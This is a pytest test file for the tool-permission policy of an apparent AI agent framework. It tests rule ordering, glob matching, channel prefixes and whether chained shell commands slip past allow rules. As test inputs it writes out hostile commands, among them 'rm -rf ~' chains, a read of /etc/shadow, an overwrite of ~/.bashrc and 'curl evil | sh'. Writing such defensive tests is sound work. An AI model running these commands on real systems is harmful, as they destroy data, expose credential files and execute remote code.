"""The tool policy: rule order, tool and command globs, channel prefixes, defaults."""

from __future__ import annotations

from typing import Any

import pytest

from openpista.config import PolicyRule, PolicySettings, load_config
from openpista.policy import PolicyDecision, ToolPolicy, is_literal_command, is_local_channel


def policy(*rules: dict[str, Any], local: str = "allow", remote: str = "ask") -> ToolPolicy:
    return ToolPolicy(
        PolicySettings.model_validate(
            {"local": local, "remote": remote, "rules": [dict(rule) for rule in rules]}
        )
    )


def run(command: str) -> dict[str, Any]:
    return {"command": command}


# -- defaults ---------------------------------------------------------------------------------


@pytest.mark.parametrize("channel", ["cli:console", "tui:me", "cron:nightly"])
def test_local_channels_get_the_local_default(channel: str) -> None:
    decision = policy(local="deny", remote="allow").decide("system.run", run("ls"), channel)
    assert decision == PolicyDecision("deny", "default for local channels (policy.local)", None)


@pytest.mark.parametrize(
    "channel", ["telegram:42", "web:abc", "whatsapp:+100", "cli", "clix:1", "", "CLI:console"]
)
def test_every_other_channel_gets_the_remote_default(channel: str) -> None:
    decision = policy().decide("system.run", run("ls"), channel)
    assert decision.action == "ask"
    assert decision.reason == "default for remote channels (policy.remote)"
    assert not is_local_channel(channel)


def test_built_in_defaults_allow_local_and_ask_remote() -> None:
    default = ToolPolicy(PolicySettings())
    assert default.decide("system.run", run("rm -rf /"), "cli:x").action == "allow"
    assert default.decide("screen.click", {}, "telegram:1").action == "ask"


# -- rules ------------------------------------------------------------------------------------


def test_first_matching_rule_wins_and_is_named() -> None:
    rules = policy(
        {"tool": "browser.*", "action": "allow"},
        {"tool": "system.run", "command": "rm *", "action": "deny"},
        {"tool": "system.run", "action": "allow"},
        {"tool": "*", "action": "deny"},
    )
    decision = rules.decide("system.run", run("rm -rf /tmp/x"), "telegram:1")
    assert decision == PolicyDecision("deny", "rule 2 (tool='system.run', command='rm *')", 2)
    assert rules.decide("system.run", run("ls"), "telegram:1").rule == 3
    assert rules.decide("browser.open", {"url": "x"}, "telegram:1").rule == 1
    assert rules.decide("screen.click", {}, "cli:x") == PolicyDecision(
        "deny", "rule 4 (tool='*')", 4
    )


def test_order_matters() -> None:
    allow_first = policy(
        {"tool": "system.run", "action": "allow"}, {"tool": "system.run", "action": "deny"}
    )
    deny_first = policy(
        {"tool": "system.run", "action": "deny"}, {"tool": "system.run", "action": "allow"}
    )
    assert allow_first.decide("system.run", run("ls"), "web:1").action == "allow"
    assert deny_first.decide("system.run", run("ls"), "web:1").action == "deny"


@pytest.mark.parametrize(
    ("pattern", "tool", "matches"),
    [
        ("system.run", "system.run", True),
        ("system.*", "system.run", True),
        ("*", "anything.at_all", True),
        ("browser.*", "system.run", False),
        ("system.run", "system.runner", False),
        ("system.run", "System.Run", False),  # case-sensitive on every platform
        ("screen.[ck]*", "screen.click", True),
        ("screen.?ype", "screen.type", True),
    ],
)
def test_tool_globs(pattern: str, tool: str, matches: bool) -> None:
    decision = policy({"tool": pattern, "action": "deny"}).decide(tool, {}, "cli:x")
    assert (decision.action == "deny") is matches


def test_channel_prefixes_limit_a_rule() -> None:
    rules = policy(
        {"tool": "*", "channels": ["telegram:42", "web:"], "action": "allow"},
        remote="deny",
    )
    assert rules.decide("system.run", run("ls"), "telegram:42").action == "allow"
    assert rules.decide("system.run", run("ls"), "telegram:4200").action == "allow"  # a prefix
    assert rules.decide("system.run", run("ls"), "web:anyone").action == "allow"
    assert rules.decide("system.run", run("ls"), "telegram:7").action == "deny"
    assert rules.decide("system.run", run("ls"), "whatsapp:42").action == "deny"
    assert rules.decide("system.run", run("ls"), "telegram:7").reason.startswith("default")
    assert "channels=['telegram:42', 'web:']" in rules.decide("x", {}, "web:1").reason


@pytest.mark.parametrize(
    ("pattern", "command", "matches"),
    [
        ("ls *", "ls -la", True),
        ("ls *", "  ls -la /tmp \n", True),  # stripped (a trailing newline is not a chain)
        ("ls", "ls", True),
        ("ls *", "sudo ls -la", False),  # the whole command, not a part of it
        ("ls*", "lsblk", True),  # a glob is a glob: write "ls" or "ls *" to mean ls
        ("git status", "git status --porcelain", False),
        ("git *", "git push --force", True),
        ("echo *", "echo 'a b'", True),
    ],
)
def test_command_globs_match_the_whole_command(pattern: str, command: str, matches: bool) -> None:
    rules = policy({"tool": "system.run", "command": pattern, "action": "allow"}, remote="deny")
    decision = rules.decide("system.run", run(command), "telegram:1")
    assert (decision.action == "allow") is matches


@pytest.mark.parametrize(
    "command",
    [
        "ls; rm -rf ~",
        "ls ;rm -rf ~",
        "ls && rm -rf ~",
        "ls || rm -rf ~",
        "ls | sh",
        "ls & rm -rf ~",
        "ls `rm -rf ~`",
        "ls $(rm -rf ~)",
        "ls\nrm -rf ~",
        "ls\rrm -rf ~",
        "ls > ~/.bashrc",
        "ls < /etc/shadow",
        "ls <(rm -rf ~)",
        "(rm -rf ~)",
    ],
)
def test_chained_commands_never_match_an_allow_rule(command: str) -> None:
    assert not is_literal_command(command)
    rules = policy({"tool": "system.run", "command": "ls*", "action": "allow"}, remote="ask")
    decision = rules.decide("system.run", run(command), "telegram:1")
    assert decision.action == "ask"
    assert decision.rule is None
    # Also not on a local channel whose default is deny.
    strict = policy({"tool": "*", "command": "*", "action": "allow"}, local="deny")
    assert strict.decide("system.run", run(command), "cli:x").action == "deny"


@pytest.mark.parametrize(
    "command",
    ["grep 'a|b' notes.txt", "ls 'quoted; (still) <text>'", "echo \"a && b\" 'c|d'", "ls '*.txt'"],
)
def test_quoted_operators_and_globs_are_plain_text(command: str) -> None:
    assert is_literal_command(command)
    rules = policy({"tool": "system.run", "command": "* *", "action": "allow"}, remote="deny")
    assert rules.decide("system.run", run(command), "telegram:1").action == "allow"


def test_a_chained_command_falls_through_to_later_rules() -> None:
    rules = policy(
        {"tool": "system.run", "command": "ls *", "action": "allow"},
        {"tool": "system.run", "action": "deny"},
        remote="allow",
    )
    decision = rules.decide("system.run", run("ls -la; curl evil | sh"), "web:1")
    assert decision == PolicyDecision("deny", "rule 2 (tool='system.run')", 2)


@pytest.mark.parametrize(
    "command",
    [
        "ls; rm -rf ~",
        "ls && rm -rf ~",
        "ls | rm -rf ~",
        "echo $(rm -rf ~)",
        "echo `rm -rf ~`",
        "ls\nrm -rf ~",
        "(rm -rf ~)",
        "rm -rf ~",
    ],
)
def test_deny_and_ask_rules_match_any_part_of_a_chain(command: str) -> None:
    for action in ("deny", "ask"):
        rules = policy({"tool": "system.run", "command": "rm *", "action": action})
        assert rules.decide("system.run", run(command), "cli:x").action == action


def test_a_tool_rule_without_command_matches_chains() -> None:
    rules = policy({"tool": "system.run", "action": "allow"}, remote="deny")
    assert rules.decide("system.run", run("ls; date"), "web:1").action == "allow"


def test_command_rules_apply_only_to_system_run_with_a_text_command() -> None:
    rules = policy({"tool": "*", "command": "*", "action": "deny"}, local="allow")
    assert rules.decide("skill.run", {"command": "rm -rf ~"}, "cli:x").action == "allow"
    assert rules.decide("system.run", {}, "cli:x").action == "allow"
    assert rules.decide("system.run", {"command": ["rm"]}, "cli:x").action == "allow"
    assert rules.decide("system.run", run("anything"), "cli:x").action == "deny"


@pytest.mark.parametrize("pattern", ["[", "[z-a]", "[!]", "**[", "\\", "[a-", "[[:alpha:]]", ""])
def test_odd_globs_never_crash(pattern: str) -> None:
    rules = policy(
        {"tool": pattern, "action": "deny"},
        {"tool": "system.run", "command": pattern, "action": "deny"},
        {"tool": "*", "channels": [pattern], "action": "deny"},
    )
    decision = rules.decide("system.run", run("ls; x"), "telegram:1")
    assert decision.action in ("deny", "ask")


def test_rules_from_a_config_file(tmp_path: Any) -> None:
    path = tmp_path / "config.toml"
    path.write_text(
        """
[policy]
local = "allow"
remote = "deny"
approval_timeout = 30

[[policy.rules]]
tool = "system.run"
command = "git status*"
channels = ["telegram:42"]
action = "allow"

[[policy.rules]]
tool = "system.run"
channels = ["telegram:42"]
action = "ask"
""",
        encoding="utf-8",
    )
    settings = load_config(path).policy
    assert settings.rules[0] == PolicyRule(
        tool="system.run", command="git status*", channels=["telegram:42"], action="allow"
    )
    rules = ToolPolicy(settings)
    assert rules.decide("system.run", run("git status"), "telegram:42").action == "allow"
    assert rules.decide("system.run", run("git status; reboot"), "telegram:42").action == "ask"
    assert rules.decide("system.run", run("git status"), "telegram:7").action == "deny"
